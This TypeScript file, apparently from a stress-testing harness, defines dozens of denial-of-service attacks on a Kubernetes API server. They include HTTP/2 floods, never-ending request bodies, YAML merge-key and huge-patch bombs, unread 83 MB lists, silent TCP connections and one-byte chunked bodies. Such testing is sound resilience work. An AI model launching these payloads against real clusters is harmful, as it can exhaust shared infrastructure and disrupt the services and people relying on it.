/** What an attacker does, attack by attack: what was found, floods, and floods of HTTP/2 by their CVE. */
import { byHand } from './frame-floods.ts'
import {
  type Attack,
  handshakes,
  http2Flood,
  http2Once,
  type Means,
  silentConnections,
  slowReaders,
  writers,
} from './means.ts'
import { oddAttacks } from './odd-attacks.ts'

const configMaps = '/api/v1/namespaces/attacker/configmaps'
const secrets = '/api/v1/namespaces/attacker/secrets'
const large = '/api/v1/namespaces/hoard/configmaps'
const json = { 'content-type': 'application/json' }
const meta = (kind: string, format = 'json'): string => `application/${format};as=${kind};v=v1;g=meta.k8s.io`
const get = (path: string, headers: Record<string, string> = {}) => ({ headers: { ':path': path, ...headers } })
const post = (path: string, body: string, headers: Record<string, string> = json) => ({
  headers: { ':method': 'POST', ':path': path, ...headers },
  body,
})

const review = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews'
const dryRun = `${configMaps}?dryRun=All`

/** `add` of so many keys, then a copy of all of them, again and again. */
function growingPatch(): string {
  const add = Array.from({ length: 20_000 }, (_, i) => ({ op: 'add', path: `/data/k${i}`, value: '' }))
  const copy = Array.from({ length: 9900 }, (_, i) => ({ op: 'copy', from: '/data', path: `/metadata/c${i}` }))
  return JSON.stringify([...add, ...copy])
}

function mergeKeys(): string {
  const base = `base: &b {${Array.from({ length: 2000 }, (_, i) => `k${i}: v`).join(', ')}}\n`
  const uses = Array.from({ length: 3000 }, (_, i) => `m${i}: {<<: *b}\n`).join('')
  return `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: merged}\n${base}${uses}`
}

const manyManagers = (): string =>
  JSON.stringify({
    metadata: {
      name: 'managed',
      managedFields: Array.from({ length: 20_000 }, (_, i) => ({
        manager: `m${i}`,
        operation: 'Update',
        apiVersion: 'v1',
        fieldsType: 'FieldsV1',
        fieldsV1: { 'f:data': { [`f:k${i}`]: {} } },
      })),
    },
  })

const manyKeys = (): string =>
  JSON.stringify({
    metadata: { name: 'keys' },
    data: Object.fromEntries(Array.from({ length: 200_000 }, (_, i) => [`k${i}`, ''])),
  })

const manyTokens = (): string => {
  const data = Array.from({ length: 125_000 }, (_, i) => `k${i}: a`).join(', ')
  return `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: tokens}\ndata: {${data}}\n`
}

const quotedText = (): string =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: quoted}\ndata: {a: "${'\\x61'.repeat(780_000)}"}\n`

const wideObject = Object.fromEntries(Array.from({ length: 14_000 }, (_, i) => [`key${i}`, 'v']))

/** Objects with 14,000 keys, each of them stored. */
const wideCreates = (means: Means, sessions: number, streams: number): Promise<void> =>
  http2Flood(means, sessions, streams, (n) =>
    post(configMaps, JSON.stringify({ metadata: { name: `w-${process.pid}-${n}` }, data: wideObject })),
  )

/** Small patches of one object with 14,000 keys. */
async function patchesOfWide(means: Means): Promise<void> {
  const name = `p-${process.pid}`
  const patch = { ':method': 'PATCH', ':path': `${configMaps}/${name}`, 'content-type': 'application/merge-patch+json' }
  const made = { ...means, tally: { sent: 0, answers: {} } }
  await http2Once(made, post(configMaps, JSON.stringify({ metadata: { name }, data: wideObject })))
  await http2Flood(means, 4, 10, (n) => ({ headers: patch, body: `{"data":{"key1":"${n}"}}` }))
}

/** What one user can do at once, each part of it from an address of its own. */
async function mixture(means: Means): Promise<void> {
  const body = mergeKeys()
  const quoted = quotedText()
  const yaml = { 'content-type': 'application/yaml' }
  const parts: ((means: Means) => Promise<void>)[] = [
    (from) => slowReaders(from, 10, large),
    (from) => slowReaders(from, 10, `${large}?watch=1`),
    (from) => http2Flood(from, 2, 50, () => get(`${secrets}?limit=500`)),
    (from) => http2Flood(from, 1, 10, () => get(large, { 'accept-encoding': 'gzip' })),
    (from) => http2Flood(from, 1, 2, () => get(secrets, { accept: 'application/yaml' })),
    (from) =>
      http2Flood(from, 2, 50, (n) => post(configMaps, JSON.stringify({ metadata: { name: `m-${process.pid}-${n}` } }))),
    (from) => wideCreates(from, 1, 10),
    (from) => http2Flood(from, 1, 4, () => post(dryRun, body, yaml)),
    (from) => http2Flood(from, 2, 2, () => post(dryRun, quoted, yaml)),
  ]
  await Promise.all(parts.map((part, i) => part({ ...means, localAddress: `127.0.1.${i + 1}` })))
}

const line = (method: string, path: string, headers = ''): string =>
  `${method} ${path} HTTP/1.1\r\nhost: x\r\n${headers}\r\n`

/** A body in chunks of one byte, as long as it is taken. */
function* crumbs(): Generator<string> {
  yield line('POST', configMaps, 'content-type: application/json\r\ntransfer-encoding: chunked\r\n')
  for (let i = 0; i < 500; i++) yield '1\r\n{\r\n'.repeat(5000)
}

/** What can't be answered before a watch ends. */
function* behindWatch(): Generator<string> {
  yield line('GET', `${configMaps}?watch=1`)
  for (let i = 0; i < 15; i++) {
    yield line('GET', configMaps, `x-large: ${'x'.repeat(60_000)}\r\n`)
    yield `${line('POST', configMaps, 'content-length: 60000\r\n')}${'x'.repeat(60_000)}`
  }
}

const future = 'resourceVersion=9007199254740991&resourceVersionMatch=NotOlderThan'

export const attacks: readonly Attack[] = [
  {
    name: '200 reviews whose bodies never end',
    run: (means) => http2Flood(means, 1, 200, () => ({ ...post(review, '{"spec":'), neverEnds: true })),
  },
  {
    name: 'JSON Patch of 20,000 add and 9,900 copy, dry run',
    run: (means) => {
      const patch = growingPatch()
      const headers = {
        ':method': 'PATCH',
        ':path': `${configMaps}/mine?dryRun=All`,
        'content-type': 'application/json-patch+json',
      }
      return http2Flood(means, 1, 2, () => ({ headers, body: patch }))
    },
  },
  ...(
    [
      ['YAML', get(secrets, { accept: 'application/yaml' })],
      ['Table', get(secrets, { accept: meta('Table') })],
      ['metadata only', get(secrets, { accept: meta('PartialObjectMetadataList') })],
      ['protobuf', get(secrets, { accept: 'application/vnd.kubernetes.protobuf' })],
      ['JSON by label', get(`${secrets}?labelSelector=kept`, {})],
    ] as const
  ).map(
    ([form, call]): Attack => ({
      name: `GET of 31 MB of Secrets, ${form}`,
      run: (means) => http2Flood(means, 1, 2, () => call),
    }),
  ),
  { name: '20 lists of 83 MB, not read', run: (means) => slowReaders(means, 20, large) },
  { name: '20 watches of 83 MB, not read', run: (means) => slowReaders(means, 20, `${large}?watch=1`) },
  {
    name: '30 gzip lists at once',
    run: (means) => http2Flood(means, 3, 10, () => get(large, { 'accept-encoding': 'gzip' })),
  },
  { name: 'one HTTP/2 list over 10 MB, not read', run: (means) => slowReaders(means, 1, secrets) },
  {
    name: '450 reads of a revision that is not there',
    run: (means) => http2Flood(means, 2, 225, () => get(`${secrets}?${future}`)),
  },
  {
    name: 'YAML with merge keys',
    run: (means) => {
      const body = mergeKeys()
      return http2Flood(means, 1, 4, () => post(dryRun, body, { 'content-type': 'application/yaml' }))
    },
  },
  ...(
    [
      ['20,000 managedFields', manyManagers, json],
      ['200,000 keys in JSON', manyKeys, json],
      ['250,000 YAML tokens', manyTokens, { 'content-type': 'application/yaml' }],
    ] as const
  ).map(
    ([name, make, headers]): Attack => ({
      name,
      run: (means) => {
        const body = make()
        return http2Flood(means, 1, 4, () => post(dryRun, body, headers))
      },
    }),
  ),
  { name: '3,000 TCP connections that say nothing', run: (means) => silentConnections(means, 3000) },
  { name: 'flood of GET', run: (means) => http2Flood(means, 4, 200, () => get(`${configMaps}/mine`)) },
  { name: 'flood of LIST', run: (means) => http2Flood(means, 4, 100, () => get(`${secrets}?limit=500`)) },
  {
    name: 'flood of create',
    run: (means) =>
      http2Flood(means, 4, 100, (n) =>
        post(configMaps, JSON.stringify({ metadata: { name: `f-${process.pid}-${n}` } })),
      ),
  },
  {
    name: 'flood of namespaces',
    run: (means) =>
      http2Flood(means, 4, 100, (n) =>
        post('/api/v1/namespaces', JSON.stringify({ metadata: { name: `f-${process.pid}-${n}` } })),
      ),
  },
  {
    name: 'flood of watches',
    run: (means) => http2Flood(means, 20, 200, () => ({ ...get(`${configMaps}?watch=1`), stays: true })),
  },
  {
    name: 'writes that 4,000 watches see',
    run: async (means) => {
      const patch = {
        ':method': 'PATCH',
        ':path': `${configMaps}/mine`,
        'content-type': 'application/merge-patch+json',
      }
      await Promise.all([
        http2Flood(means, 20, 200, () => ({ ...get(`${configMaps}?watch=1&resourceVersion=0`), stays: true })),
        http2Flood(means, 1, 4, (n) => ({ headers: patch, body: `{"data":{"key1":"${n}"}}` })),
      ])
    },
  },
  { name: 'flood of TLS handshakes', run: (means) => handshakes(means, 50) },
  { name: '40 creates of 14,000 keys at once', run: (means) => wideCreates(means, 4, 10) },
  { name: '40 small patches of 14,000 keys at once', run: patchesOfWide },
  {
    name: '10 YAML bodies of 3 MiB between quotes',
    run: (means) => {
      const body = quotedText()
      return http2Flood(means, 5, 2, () => post(dryRun, body, { 'content-type': 'application/yaml' }))
    },
  },
  { name: '10 bodies in pieces of one byte', run: (means) => writers(means, 10, crumbs) },
  { name: '300 watches with 30 requests behind each', run: (means) => writers(means, 300, behindWatch) },
  ...byHand,
  ...oddAttacks,
  { name: 'a mixture of attacks, from nine addresses', run: mixture },
]
